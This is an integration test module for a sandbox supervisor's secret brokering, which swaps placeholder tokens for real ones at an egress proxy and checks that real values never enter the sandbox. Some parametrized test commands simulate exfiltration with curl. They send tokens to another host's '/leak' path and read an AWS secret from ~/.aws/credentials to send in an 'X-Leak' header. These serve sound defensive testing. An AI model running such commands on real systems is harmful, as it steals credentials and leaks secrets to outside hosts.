"""Brokered secrets through the real supervisor, on Podman and Docker, against HTTPS upstreams
of the tests' own on 127.0.0.1 (names pinned in [network] hosts): curl, Python's urllib and
requests, Node's fetch and git in the sandbox send the placeholder, and the upstream receives
the real value; the real value is nowhere in the sandbox (the environment of every process,
its files, /proc, the responses it got, the container's own configuration); the placeholder
sent to another secret's host, in a URL or in a body is refused, recorded in the audit log,
and never reaches an upstream.

Two upstreams: api.test (secret "api", a bearer header) and other.test (secret "git", HTTP
basic auth as git uses it: 401 first, then the credentials); localhost, allowed with no secret,
is tunnelled as before. One sandbox per engine."""

from __future__ import annotations

import asyncio
import base64
import codecs
import importlib.util
import json
import secrets
import threading
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from stockade.client import FailedPrecondition, Stockade
from stockade.supervisor.keys import sandbox_id
from stockade.supervisor.policy.honeytokens import derive, load_key
from stockade.supervisor.sandboxes.brokering import installation_key, placeholder
from tests.integration.harness import (
    Supervisor,
    engine_cli,
    engine_url,
    instance_containers,
    running_supervisor,
)
from tests.upstream import Recorded, Upstream

pytestmark = pytest.mark.timeout(600)

needs_interception = pytest.mark.skipif(
    importlib.util.find_spec("stockade.supervisor.network.intercept") is None,
    reason="the proxy's interception (network/intercept.py, branch i19-intercept) is not here",
)
API_VALUE = "api_" + secrets.token_hex(20)
GIT_VALUE = "git_" + secrets.token_hex(20)
ROT13 = "'A-Za-z' 'N-ZA-Mn-za-m'"
MASKED = "*" * len(API_VALUE)
"""What an upstream's echo of the real value becomes on its way back (same length)."""
GIT_USER = "x-access-token"
FAKE_SHA = "1234567890abcdef1234567890abcdef12345678"


class GitUpstream(Upstream):
    """An upstream that speaks as much smart HTTP as `git ls-remote` needs, behind basic
    auth: 401 without credentials (git sends them only then), one ref with them."""

    async def _one(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> bool:
        request = await self._request_head(reader)
        if request is None:
            return False
        got, _version = request
        await self._read_body(reader, got)
        extra = ""
        if got.header("authorization") is None:
            status, body = "401 Unauthorized", b"who are you?\n"
            extra = 'WWW-Authenticate: Basic realm="git"\r\n'
        else:
            status = "200 OK"
            extra = "Content-Type: application/x-git-upload-pack-advertisement\r\n"
            ref = f"{FAKE_SHA} HEAD\0agent=stockade-test\n"
            body = b"001e# service=git-upload-pack\n0000" + f"{len(ref) + 4:04x}{ref}0000".encode()
        writer.write(
            f"HTTP/1.1 {status}\r\nContent-Length: {len(body)}\r\n{extra}\r\n".encode() + body
        )
        await writer.drain()
        return True


class Upstreams:
    """Both upstreams served on an event loop of their own (a thread), so the synchronous
    client's calls and the servers run at once."""

    def __init__(
        self, directory: Path, api: type[Upstream] = Upstream, plain: bool = False
    ) -> None:
        """`plain`: a plain HTTP upstream too (`self.plain`, plain.test in api_secret_config)."""
        self.loop = asyncio.new_event_loop()
        self.thread = threading.Thread(target=self.loop.run_forever, daemon=True)
        self.thread.start()
        self.api = self._run(api(directory / "api").start())
        self.git = self._run(GitUpstream(directory / "git").start())
        self.plain = self._run(Upstream(directory / "plain", tls=False).start()) if plain else None
        self.ca_file = directory / "cas.pem"
        """Both test CAs: what the proxy trusts upstream ([network] upstream_ca_file)."""
        self.ca_file.write_bytes(
            self.api.ca.ca_file.read_bytes() + self.git.ca.ca_file.read_bytes()
        )

    def _run(self, coro: object) -> Upstream:
        return asyncio.run_coroutine_threadsafe(coro, self.loop).result(30)  # type: ignore[arg-type]

    def seen(self) -> list[Recorded]:
        return [*self.api.requests, *self.git.requests]

    def close(self) -> None:
        for upstream in (self.api, self.git, *([self.plain] if self.plain else [])):
            asyncio.run_coroutine_threadsafe(upstream.close(), self.loop).result(30)
        self.loop.call_soon_threadsafe(self.loop.stop)
        self.thread.join(10)
        self.loop.close()


def api_secret_config(
    upstreams: Upstreams, folder: Path, *, honeytokens: bool = False, intercept_all: bool = False
) -> str:
    """A supervisor's config with the one brokered secret `api` for api.test (its value in
    `folder`/api); `intercept_all`: [network] intercept = "all", and localhost allowed too;
    `honeytokens`: decoys on; plain.test allowed when `upstreams` has a plain upstream."""
    value = folder / "api"
    value.write_text(API_VALUE + "\n")
    value.chmod(0o600)
    hosts = ["api.test", "localhost"] if intercept_all else ["api.test"]
    ports = [upstreams.api.port]
    if upstreams.plain is not None:
        hosts.append("plain.test")
        ports.append(upstreams.plain.port)
    allow = ", ".join(f'"{h}"' for h in hosts)
    mapped = "".join(f'"{h}" = "127.0.0.1"\n' for h in hosts)
    intercept = 'intercept = "all"\n' if intercept_all else ""
    decoys = "[honeytokens]\nenabled = true\n" if honeytokens else ""
    return f"""
[sandbox]
network = "egress"
[network]
allow = [{allow}]
ports = {ports}
allow_private_addresses = true
upstream_ca_file = "{upstreams.ca_file}"
{intercept}[network.hosts]
{mapped}[secrets.api]
file = "{value}"
hosts = ["api.test"]
template = "Bearer {{secret}}"
sandbox_env = "API_TOKEN"
{decoys}"""


@pytest.fixture(scope="module")
def upstreams(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Upstreams]:
    ups = Upstreams(tmp_path_factory.mktemp("upstreams"))
    try:
        yield ups
    finally:
        ups.close()


@pytest.fixture(scope="module")
def brokered(
    engine: str, upstreams: Upstreams, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Supervisor]:
    folder = tmp_path_factory.mktemp("values")
    for name, value in (("api", API_VALUE), ("git", GIT_VALUE)):
        (folder / name).write_text(value + "\n")
        (folder / name).chmod(0o600)
    config = f"""
[sandbox]
network = "egress"
[network]
allow = ["api.test", "other.test", "localhost"]
ports = [{upstreams.api.port}, {upstreams.git.port}]
allow_private_addresses = true
upstream_ca_file = "{upstreams.ca_file}"
[network.hosts]
"api.test" = "127.0.0.1"
"other.test" = "127.0.0.1"
"localhost" = "127.0.0.1"
[secrets.api]
file = "{folder / "api"}"
hosts = ["api.test"]
template = "Bearer {{secret}}"
sandbox_env = "API_TOKEN"
[secrets.git]
file = "{folder / "git"}"
hosts = ["other.test"]
basic_user = "{GIT_USER}"
sandbox_env = "GIT_TOKEN"
"""
    with running_supervisor(engine, config) as sup:
        yield sup


@pytest.fixture(scope="module")
def box(brokered: Supervisor) -> Iterator[tuple[Stockade, str]]:
    key = f"brk-{uuid.uuid4().hex[:10]}"
    with brokered.client() as client:
        client.sandbox(key).ensure()
        yield client, key


def placeholders(sup: Supervisor, key: str) -> tuple[str, str]:
    ikey = installation_key(sup.state_dir)
    sid = sandbox_id(key)
    return placeholder(ikey, sid, "api"), placeholder(ikey, sid, "git")


def run(client: Stockade, key: str, command: str, timeout: float = 60) -> tuple[int, str]:
    result = client.sandbox(key).exec(command, timeout=timeout)
    assert result.redactions == 0, f"the scrubber hid something in: {command}"
    return result.exit_code, result.stdout + result.stderr


def run_unscrubbed(client: Stockade, key: str, command: str) -> tuple[int, str]:
    """run(), its output rot13-ed in the sandbox and back here: the scrubber then leaves
    alone what it would hide (an `Authorization: Bearer ...` line, masked or not), so the
    test sees what the sandbox really got."""
    wrapped = f"({command}) > /tmp/out 2>&1; rc=$?; tr {ROT13} < /tmp/out; rm /tmp/out; exit $rc"
    code, out = run(client, key, wrapped)
    return code, codecs.decode(out, "rot13")


def test_the_sandbox_holds_placeholders_and_trusts_the_egress_ca(
    brokered: Supervisor, box: tuple[Stockade, str]
) -> None:
    client, key = box
    api_ph, git_ph = placeholders(brokered, key)
    code, out = run(client, key, 'printf "%s %s %s" "$API_TOKEN" "$GIT_TOKEN" "$SSL_CERT_FILE"')
    assert code == 0
    assert out == f"{api_ph} {git_ph} /etc/ssl/certs/ca-certificates.crt"
    code, out = run(client, key, "grep -c 'BEGIN CERTIFICATE' $NODE_EXTRA_CA_CERTS; "
                    "touch /etc/ssl/certs/ca-certificates.crt")  # fmt: skip
    assert out.startswith("1\n")
    assert code != 0  # the bundle is read-only


@needs_interception
def test_every_client_sends_the_placeholder_and_the_upstream_gets_the_value(
    brokered: Supervisor, box: tuple[Stockade, str], upstreams: Upstreams
) -> None:
    client, key = box
    api_ph, _ = placeholders(brokered, key)
    url = f"https://api.test:{upstreams.api.port}/echo"
    clients = {
        "curl": f'curl -sS --fail -H "Authorization: Bearer $API_TOKEN" "{url}?via=curl"',
        "urllib": (
            "python3 -c 'import os, urllib.request as u; "
            f'r = u.Request("{url}?via=urllib", headers={{"Authorization": '
            '"Bearer " + os.environ["API_TOKEN"]}); print(u.urlopen(r).read().decode())\''
        ),
        "requests": (
            "python3 -c 'import os, requests; "
            f'r = requests.get("{url}?via=requests", headers={{"Authorization": '
            '"Bearer " + os.environ["API_TOKEN"]}); r.raise_for_status(); print(r.text)\''
        ),
        "node": (
            "node -e 'fetch(\"" + url + '?via=node", {headers: {Authorization: '
            '"Bearer " + process.env.API_TOKEN}}).then(r => r.text()).then(console.log, '
            "e => { console.error(e, e.cause); process.exit(1) })'"
        ),
    }
    for name, command in clients.items():
        before = len(upstreams.api.requests)
        code, out = run_unscrubbed(client, key, command)
        assert code == 0, f"{name}: {out}"
        # the upstream echoes the head it got: the real value comes back masked
        assert f"Bearer {MASKED}" in out, f"{name}: {out}"
        got = [r for r in upstreams.api.requests[before:] if r.target.endswith(f"via={name}")]
        assert len(got) == 1, name
        assert got[0].header("authorization") == f"Bearer {API_VALUE}", name
        assert api_ph.encode() not in got[0].head
    records = client.list_audit(sandbox_key=key, tool="network", limit=500)
    injected = [json.loads(r.arguments_json) for r in records if "injected api" in r.policy_step]
    assert [i["path"] for i in injected] == ["/echo"] * len(clients)  # the query left out
    assert all(i["host"] == "api.test" and i["method"] == "GET" for i in injected)
    assert not any(API_VALUE in r.arguments_json + r.policy_step for r in records)


@needs_interception
def test_git_gets_basic_auth_after_a_401(
    brokered: Supervisor, box: tuple[Stockade, str], upstreams: Upstreams
) -> None:
    client, key = box
    _, git_ph = placeholders(brokered, key)
    helper = "!f() { echo username=" + GIT_USER + '; echo "password=$GIT_TOKEN"; }; f'
    command = (
        f"git -c credential.helper='{helper}' ls-remote "
        f"https://other.test:{upstreams.git.port}/repo.git"
    )
    before = len(upstreams.git.requests)
    code, out = run(client, key, command)
    assert code == 0, out
    assert FAKE_SHA in out
    got = upstreams.git.requests[before:]
    assert got[0].header("authorization") is None  # git asked without, got 401
    real = base64.b64encode(f"{GIT_USER}:{GIT_VALUE}".encode()).decode()
    assert got[-1].header("authorization") == f"Basic {real}"
    assert all(git_ph.encode() not in r.head for r in got)


def test_the_real_values_are_nowhere_in_the_sandbox(
    engine: str, brokered: Supervisor, box: tuple[Stockade, str]
) -> None:
    client, key = box
    # look for a part of each value, reversed on the way in, so the search itself does not
    # put one in the sandbox (its command line, its files)
    needles = [API_VALUE[4:28][::-1], GIT_VALUE[4:28][::-1]]
    search = (
        "import os, sys\n"
        "needles = [n[::-1].encode() for n in sys.argv[1:]]\n"
        "hits, read = [], 0\n"
        "for pid in [p for p in os.listdir('/proc') if p.isdigit()]:\n"
        "    for part in ('environ', 'cmdline'):\n"
        "        try:\n"
        "            data = open(f'/proc/{pid}/{part}', 'rb').read()\n"
        "        except OSError:\n"
        "            continue\n"
        "        read += 1\n"
        "        hits += [f'/proc/{pid}/{part}' for n in needles if n in data]\n"
        "for top, dirs, files in os.walk('/'):\n"
        "    if top == '/':\n"
        "        dirs[:] = [d for d in dirs if d not in ('proc', 'sys', 'dev')]\n"
        "    for name in files:\n"
        "        path = os.path.join(top, name)\n"
        "        try:\n"
        "            if os.path.islink(path) or os.path.getsize(path) > 64 << 20:\n"
        "                continue\n"
        "            data = open(path, 'rb').read()\n"
        "        except OSError:\n"
        "            continue\n"
        "        read += 1\n"
        "        hits += [path for n in needles if n in data]\n"
        "print(read, hits)\n"
    )
    client.sandbox(key).write_file("search.py", search)
    code, out = run(client, key, f"python3 search.py {' '.join(needles)}", timeout=300)
    assert code == 0, out
    read, hits = out.split(" ", 1)
    assert int(read) > 1000  # it did look
    assert hits.strip() == "[]"
    # the search works: a needle it was given is found where it was put
    code, out = run(
        client, key, f"echo {needles[0][::-1]} > /tmp/planted; python3 search.py {needles[0]}"
    )
    assert "/tmp/planted" in out
    run(client, key, "rm -f /tmp/planted search.py")
    # and from the host: the container's configuration (its environment) and its workspace
    for info in instance_containers(engine, engine_url(engine), brokered):
        shown = engine_cli(engine, "inspect", info.id).stdout
        assert shown
        assert API_VALUE not in shown
        assert GIT_VALUE not in shown
    for path in brokered.workspace(key).rglob("*"):
        if path.is_file():
            data = path.read_bytes()
            assert API_VALUE.encode() not in data
            assert GIT_VALUE.encode() not in data


@needs_interception
@pytest.mark.parametrize(
    ("where", "command"),
    [
        (
            "another secret's host",
            'curl -sS -o /dev/null -w "%{{http_code}}" -H "Authorization: Bearer $API_TOKEN" '
            "https://other.test:{git}/leak",
        ),
        (
            "a URL",
            'curl -sS -o /dev/null -w "%{{http_code}}" "https://api.test:{api}/echo?t=$API_TOKEN"',
        ),
        (
            "a body",
            'curl -sS -o /dev/null -w "%{{http_code}}" -H "Authorization: Bearer $API_TOKEN" '
            '--data "token=$GIT_TOKEN" https://api.test:{api}/echo',
        ),
        (
            "another header",
            'curl -sS -o /dev/null -w "%{{http_code}}" -H "X-Token: $API_TOKEN" '
            "https://api.test:{api}/echo",
        ),
    ],
)
def test_a_placeholder_anywhere_else_is_refused_and_recorded(
    brokered: Supervisor,
    box: tuple[Stockade, str],
    upstreams: Upstreams,
    where: str,
    command: str,
) -> None:
    """The request is refused (403) and recorded, its upstream never sees the placeholder,
    and the alarm quarantines the sandbox ([quarantine] on: "placeholder"): calls refused
    with FAILED_PRECONDITION until release. The freeze may land while the call that sent
    it still runs: that call then ends at its (short) deadline instead."""
    client, key = box
    api_ph, git_ph = placeholders(brokered, key)
    before = len(upstreams.seen())
    audited = len(client.list_audit(sandbox_key=key, tool="network", limit=1000))
    sent = command.format(api=upstreams.api.port, git=upstreams.git.port)
    result = client.sandbox(key).exec(sent, timeout=10)
    if result.error_code != "TIMEOUT":
        assert result.stdout.strip().endswith("403"), f"{where}: {result}"
    with pytest.raises(FailedPrecondition, match=f"sandbox '{key}' is quarantined since .*"):
        client.sandbox(key).exec("true")
    evidence = client.get_quarantine(key)
    assert [a.kind for a in evidence.quarantine.alarms] == ["placeholder"]
    assert API_VALUE not in repr(evidence)
    client.release_quarantine(key)
    for request in upstreams.seen()[before:]:
        data = request.head + request.body
        assert api_ph.encode() not in data, where
        assert git_ph.encode() not in data, where
    records = client.list_audit(sandbox_key=key, tool="network", limit=1000)
    new = records[: len(records) - audited]
    refused = [r for r in new if r.is_error]
    assert refused, f"{where}: no audit record of the refusal"
    assert any("placeholder" in r.policy_step for r in refused), [r.policy_step for r in new]
    for r in new:
        assert api_ph not in r.arguments_json
        assert API_VALUE not in r.arguments_json


def test_a_host_without_a_secret_is_tunnelled_as_before(
    box: tuple[Stockade, str], upstreams: Upstreams
) -> None:
    """localhost has no brokered secret: its TLS is not terminated (the sandbox sees the
    upstream's own certificate, which it does not trust without the test CA). NO_PROXY names
    localhost: `--noproxy ''` sends it through the proxy all the same."""
    client, key = box
    url = f"https://localhost:{upstreams.api.port}/echo?via=tunnel"
    before = len(upstreams.api.requests)
    curl = f"curl -sS --noproxy '' -o /dev/null -w '%{{http_code}}' {url}"
    code, out = run(client, key, curl)
    assert code != 0
    assert "certificate" in out.lower()
    client.sandbox(key).write_file("ca.pem", upstreams.api.ca.ca_file.read_text())
    code, out = run(client, key, curl.replace("curl ", "curl --cacert ca.pem "))
    assert (code, out) == (0, "200")
    got = [r for r in upstreams.api.requests[before:] if r.target.endswith("via=tunnel")]
    assert len(got) == 1


@needs_interception
def test_a_restarted_supervisor_brokers_for_the_sandboxes_it_adopts(
    brokered: Supervisor, box: tuple[Stockade, str], upstreams: Upstreams
) -> None:
    """Last in this module: it restarts the module's supervisor. The adopted container keeps
    its placeholder, and the new proxy knows it (derived again under the kept key)."""
    _client, key = box
    api_ph, _ = placeholders(brokered, key)
    ca = (brokered.state_dir / "egress-ca" / "ca.crt").read_bytes()
    brokered.stop()
    brokered.start()
    assert (brokered.state_dir / "egress-ca" / "ca.crt").read_bytes() == ca
    url = f"https://api.test:{upstreams.api.port}/echo?via=restart"
    before = len(upstreams.api.requests)
    with brokered.client() as client:
        code, out = run(client, key, 'echo "$API_TOKEN"')
        assert out.strip() == api_ph
        curl = f'curl -sS --fail -H "Authorization: Bearer $API_TOKEN" {url}'
        code, out = run_unscrubbed(client, key, curl)
        assert code == 0, out
        assert f"Bearer {MASKED}" in out
    got = upstreams.api.requests[before:]
    assert [r.header("authorization") for r in got] == [f"Bearer {API_VALUE}"]


@needs_interception
def test_a_decoy_read_then_sent_in_a_request_quarantines_the_sandbox(
    engine: str, upstreams: Upstreams, tmp_path: Path
) -> None:
    """Honeytokens and the egress proxy together: a sandbox reads its decoy AWS secret and
    sends it in a header to an intercepted host, the command never naming it. The proxy's
    tripwire refuses the request (its upstream sees nothing of it), the alarm is a use, and
    the sandbox is quarantined within that one call; its files kept, release restores it."""
    config = api_secret_config(upstreams, tmp_path, honeytokens=True)
    with running_supervisor(engine, config) as sup, sup.client() as client:
        key = f"honey-egress-{uuid.uuid4().hex[:8]}"
        decoy = derive(load_key(sup.state_dir), key).aws_secret
        before = len(upstreams.api.requests)
        client.sandbox(key).write_file("kept.txt", "kept\n")
        leak = (
            "s=$(awk '/aws_secret_access_key/ {print $3}' ~/.aws/credentials); "
            f'curl -sS -o /dev/null -w "%{{http_code}}" -H "X-Leak: $s" '
            f"https://api.test:{upstreams.api.port}/echo"
        )
        result = client.sandbox(key).exec(leak, timeout=10)
        if result.error_code != "TIMEOUT":  # the freeze may land before the call returns
            assert result.stdout.strip().endswith("403"), result
        for request in upstreams.api.requests[before:]:
            assert decoy.encode() not in request.head + request.body
        with pytest.raises(FailedPrecondition, match=f"sandbox '{key}' is quarantined"):
            client.sandbox(key).exec("true")
        (alarm,) = client.get_quarantine(key).quarantine.alarms
        assert (alarm.kind, alarm.where) == ("honeytoken", "egress")
        assert decoy not in alarm.evidence
        client.release_quarantine(key)
        assert client.sandbox(key).exec("cat kept.txt").stdout == "kept\n"


@needs_interception
def test_intercept_all_sees_a_placeholder_on_its_way_to_any_allowed_host(
    engine: str, upstreams: Upstreams, tmp_path: Path
) -> None:
    """[network] intercept = "all": localhost has no brokered secret, yet the proxy
    terminates its TLS for a sandbox that holds placeholders (the sandbox trusts the egress
    CA: no --cacert needed, where a tunnel would show the upstream's own certificate), so a
    placeholder sent there is refused and never reaches it, and the sandbox quarantined."""
    config = api_secret_config(upstreams, tmp_path, intercept_all=True)
    with running_supervisor(engine, config) as sup, sup.client() as client:
        key = f"brk-all-{uuid.uuid4().hex[:8]}"
        api_ph = placeholder(installation_key(sup.state_dir), sandbox_id(key), "api")
        url = f"https://localhost:{upstreams.api.port}/echo"
        curl = "curl -sS --noproxy '' -o /dev/null -w '%{http_code}'"
        before = len(upstreams.api.requests)
        code, out = run(client, key, f"{curl} {url}?via=intercepted")
        assert (code, out) == (0, "200")  # terminated by the proxy, verified by the sandbox
        got = upstreams.api.requests[before:]
        assert [r.target for r in got] == ["/echo?via=intercepted"]
        result = client.sandbox(key).exec(f'{curl} -H "X-Token: $API_TOKEN" {url}', timeout=10)
        if result.error_code != "TIMEOUT":  # the freeze may land before the call returns
            assert result.stdout.strip().endswith("403"), result
        for request in upstreams.api.requests[before:]:
            assert api_ph.encode() not in request.head + request.body
        with pytest.raises(FailedPrecondition, match=f"sandbox '{key}' is quarantined"):
            client.sandbox(key).exec("true")
        client.release_quarantine(key)
